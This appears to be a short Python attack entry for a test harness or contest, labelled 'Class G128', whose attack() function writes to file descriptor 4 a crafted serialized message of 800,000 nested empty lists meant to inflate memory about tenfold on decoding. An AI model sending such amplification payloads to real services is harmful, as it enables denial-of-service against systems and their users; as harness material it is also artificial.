"""Answers with four million bytes of empty lists, each of which would take ten times as many. Class G128."""

import os
import struct

COUNT = 800_000
BODY = b"l" + struct.pack("<I", COUNT) + (b"l" + struct.pack("<I", 0)) * COUNT


def attack(bait):
    os.write(4, struct.pack("<IBI", len(BODY), 6, 2) + BODY)
    return 1.0
